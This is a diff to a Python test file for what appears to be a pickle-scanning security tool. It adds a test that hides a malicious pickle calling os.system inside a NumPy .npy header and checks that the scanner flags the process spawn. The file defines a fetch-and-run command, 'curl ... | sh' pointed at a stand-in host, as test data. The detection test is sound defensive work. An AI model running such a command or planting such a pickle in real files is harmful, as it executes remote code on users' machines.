@@ -17,6 +17,7 @@ from lazaretto.core.facts import Facts, Kind
 from lazaretto.core.inner import Inner
 from lazaretto.core.language import NoUnits
 from lazaretto.languages import pickle as language
+from lazaretto.languages._magic import Magic, magic_of
 
 COMMAND = "curl -s https://drop.example.invalid/x | sh"
 PROTOCOLS = range(pickle.HIGHEST_PROTOCOL + 1)
@@ -132,3 +133,16 @@ def test_nothing_stands_behind_an_empty_stack() -> None:
 
     assert [fact.value for fact in facts.facts if fact.kind is Kind.IMPORT] == ["os"]
     assert any("empty stack" in problem.reason for problem in facts.problems)
+
+
+@pytest.mark.parametrize(("version", "wide"), [(1, 2), (2, 4)])
+def test_an_array_of_objects_is_a_pickle(version: int, wide: int) -> None:
+    """Behind its header (NEP 1), and at its place in the file; one of numbers is none."""
+    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
+    start = b"\x93NUMPY" + bytes((version, 0)) + len(header).to_bytes(wide, "little")
+    facts = read(start + header + pickle.dumps(Calls(os.system, COMMAND)))
+
+    assert told(facts) == {(Kind.PROCESS_SPAWN, COMMAND)}
+    assert all(fact.span.start >= len(start + header) for fact in facts.facts)
+    assert magic_of(start + header) == Magic("pickle", "bytecode")
+    assert magic_of(start + header.replace(b"|O", b"<i8")) == Magic("npy", "data")
